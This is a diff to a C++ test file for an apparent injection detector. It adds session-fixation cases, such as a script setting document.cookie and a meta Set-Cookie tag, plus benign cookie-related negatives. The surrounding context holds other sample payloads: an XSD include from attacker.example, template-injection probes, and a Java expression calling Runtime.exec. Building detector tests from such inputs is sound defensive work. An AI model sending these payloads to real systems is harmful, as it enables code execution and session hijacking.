@@ -48,6 +48,10 @@ INSTANTIATE_TEST_SUITE_P(
         Case{"<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include "
              "schemaLocation=\"http://attacker.example/s.xsd\"/></xs:schema>",
              Category::kXxe},
+        Case{"<script>document.cookie=\"sessionid=1234; domain=.example.com\";</script>",
+             Category::kSessionFixation},
+        Case{"x.cookie;expires=", Category::kSessionFixation},
+        Case{"<meta http-equiv=\"Set-Cookie\" content=\"sid=known\">", Category::kSessionFixation},
         Case{"{{7*7}}", Category::kSsti},
         Case{"{{''.__class__.__mro__[1].__subclasses__()}}", Category::kSsti},
         Case{"${T(java.lang.Runtime).getRuntime().exec('id')}", Category::kCodeInjection},
@@ -97,7 +101,9 @@ INSTANTIATE_TEST_SUITE_P(
         "Pozn\xc3\xa1mka: \xc4\x8dlink: viz \xc4\x8dhost: n\xc3\xa1v\xc5\xa1t\xc4\x9bva",
         "HelloWorld1", "Passw0rdAbc",
         "Split big schemas with <xs:include> and <b>:import</b> the rest, see "
-        "https://docs.example.com/xsd"));
+        "https://docs.example.com/xsd",
+        "Cookies: we set a session cookie; domain of use is this site only",
+        "my.cookie.jar; path is ~/.config"));
 
 TEST(Detectors, CodeInJsonBodyFromAnEditorIsAllowed) {
   std::string code =
